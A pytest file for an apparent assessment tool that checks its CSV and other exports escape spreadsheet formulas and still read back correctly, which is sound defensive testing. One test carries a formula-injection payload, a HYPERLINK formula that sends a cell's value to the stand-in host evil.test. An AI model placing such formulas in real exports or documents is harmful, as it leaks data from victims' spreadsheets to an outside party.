"""Exports of studies whose ids and words are formulas: no spreadsheet runs them, and we read them back."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from tare._data.preferences import read_preferences
from tare._data.pyramids import read_presence, read_pyramid
from tare._data.qrels import read_qrels
from tare._data.ratings import read_ratings
from tare._judging import Dimension, Study, StudyDesign, Task
from tare._judging.design import Text
from tare._measures.scores import Scores
from tare._web.judge.exports import FORMATS, SLICE, export, offered
from tare.errors import MismatchError
from tests.rooms import ANSWERS, FORMULAS, House, study_of
from tests.unit.tables.test_spreadsheet import runs

QUERY, ONE, TWO, OTHER, *_ = (cell for cell in FORMULAS if cell.split() == [cell])


Names = tuple[str, str, str]
FORMULA_NAMES = (QUERY, ONE, TWO)


def hostile(kind: str, names: Names = FORMULA_NAMES) -> Study:
    """A study of a kind with one task, every name of which is a formula, or one of `names`."""
    query, one, two = names
    units = ((one, "-2+3"), (two, "@SUM(A1)"))
    more = {
        "grades": {"grades": ((0, "no"), (1, "yes"), (2, "very"))},
        "ratings": {"dimensions": (Dimension(one), Dimension(two, high=3))},
    }.get(kind, {})
    pair = kind in ("preference", "headtohead", "markup")
    task = Task(query, (one, two) if pair else (one,), units=units if kind == "scus" else ())
    design = StudyDesign(kind, title=OTHER, **more)
    joined = kind in ("ratings", "headtohead", "scus", "markup")
    texts = {f"{query}\t{n}" if joined else n: Text("=1+1 is what it says") for n in (one, two)}
    return Study(design, (task,), texts, {query: Text("a query")})


def answer(kind: str, names: Names = FORMULA_NAMES) -> dict:
    _, one, two = names
    if kind == "ratings":
        return {"ratings": {one: 4, two: 2}}
    if kind == "scus":
        return {"present": {one: "yes", two: "no"}}
    if kind == "markup":
        marks = [{"reference": 0, "start": 0, "end": 4}, {"reference": 1, "start": 0, "end": 4}]
        return {"units": [{"label": "=2+5", "contributors": marks}]}
    given = ANSWERS[kind]
    assert isinstance(given, dict)
    return given


@pytest.fixture
def judged(request, tmp_path):
    kind = request.param
    with House(hostile(kind), str(tmp_path / "s.db"), invite=2) as house:
        assert house.assessor(0).judge(answer(kind)).status_code == 200
        house.owner()
        yield house


KINDS = ["preference", "grades", "ratings", "headtohead", "scus", "markup"]


@pytest.mark.parametrize("judged", KINDS, indirect=True)
def test_no_cell_of_any_export_is_a_formula(judged):
    owner = judged.owner()
    for what in offered(judged.store):
        reply = owner.client.get(f"/owner/export/{what}.csv")
        assert reply.status_code == 200, what
        rows = list(csv.reader(io.StringIO(reply.text, newline="")))
        assert len(rows) > 1
        assert [cell for row in rows for cell in row if runs(cell)] == [], what
        assert export(judged.store, what, "csv") == reply.content


@pytest.mark.parametrize("judged", ["preference"], indirect=True)
def test_reasons_are_words_of_strangers(judged):
    bob = judged.assessor(1)
    judged.store.study  # noqa: B018 (one answer a task: the second is not offered any)
    assert "no tasks left" in bob.open("/work")
    ann = judged.assessor(0)
    ann.post("/undo", submission="undo-of-that-answer-1")
    ann.judge({"choice": "cannot", "reason": '=HYPERLINK("http://evil.test?"&A1;"x")'})
    rows = list(csv.DictReader(io.StringIO(export(judged.store, "ratings", "csv").decode())))
    assert rows[0]["reason"] == '\'=HYPERLINK("http://evil.test?"&A1;"x")'
    assert json.loads(export(judged.store, "ratings", "jsonl"))["reason"].startswith("=HYPERLINK")


@pytest.mark.parametrize("judged", KINDS, indirect=True)
def test_our_readers_give_the_values_back(judged, tmp_path):
    are_given_back(judged, FORMULA_NAMES, "csv", tmp_path)


@pytest.mark.parametrize("form", ["csv", "jsonl", "parquet"])
@pytest.mark.parametrize("kind", KINDS)
def test_names_with_characters_that_end_lines_elsewhere_come_back(kind, form, tmp_path):
    names = ("q\u2028u\u2029\x85v", "a\x0bb\x0cc\x1cd", "c\x1dd\x1ee\r\x85f")
    with House(hostile(kind, names), str(tmp_path / "s.db"), invite=1) as house:
        reply = house.assessor(0).judge(answer(kind, names))
        assert reply.status_code == 200, reply.text
        are_given_back(house, names, form, tmp_path)


def are_given_back(judged: House, names: Names, form: str, folder: Path) -> None:
    """Every export is read again, with the names and values of the answers."""
    query, one, two = names
    outcomes, kind = judged.store.outcomes(texts=True), judged.store.study.design.kind

    def file(what: str, suffix: str = form):
        path = folder / f"{what}.{suffix}"
        path.write_bytes(export(judged.store, what, suffix))
        return path

    rated = read_ratings(file("ratings"))
    wanted = outcomes.ratings()
    assert (rated.units, rated.coders, rated.labels) == (wanted.units, wanted.coders, wanted.labels)
    assert rated.values.tolist() == wanted.values.tolist()
    if kind in ("preference", "headtohead"):
        assert read_preferences(file("preferences")).judgements == outcomes.preferences().judgements
    if kind == "grades":
        assert read_qrels(file("qrels")).to_dict() == {query: {one: 2.0}}
    if kind in ("ratings", "headtohead", "scus"):
        scores = Scores.load(file("scores"))
        assert set(scores.systems) <= {one, two}
        assert scores.items == (query,)
        assert (
            scores.to_frame().sort("system", "measure")["value"].to_list()
            == outcomes.scores().sort("system", "measure")["value"].to_list()
        )
    if kind == "scus":
        assert read_presence(file("scus")) == {(one, query): {one: [True], two: [False]}}
    if kind == "markup":
        assert [scu.label for scu in read_pyramid(file("units")).scus] == ["=2+5"]


@pytest.mark.parametrize("judged", ["ratings"], indirect=True)
def test_formats_that_no_spreadsheet_opens_hold_the_values_themselves(judged):
    for form in set(FORMATS) - {"csv", "txt"}:
        assert b"'" + QUERY.encode() not in export(judged.store, "ratings", form)


@pytest.mark.parametrize("answered", [False, True])
@pytest.mark.parametrize("kind", sorted(ANSWERS))
def test_a_study_without_a_slice_exports_none(kind, answered, tmp_path):
    with House(study_of(kind), str(tmp_path / "s.db"), invite=1) as house:
        if answered:
            assert house.assessor(0).judge(ANSWERS[kind]).status_code == 200
        owner = house.owner()
        for what in SLICE:
            for form in FORMATS:
                with pytest.raises(MismatchError, match="no blind slice"):
                    export(house.store, what, form)
            assert owner.client.get(f"/owner/export/{what}.csv").status_code == 409
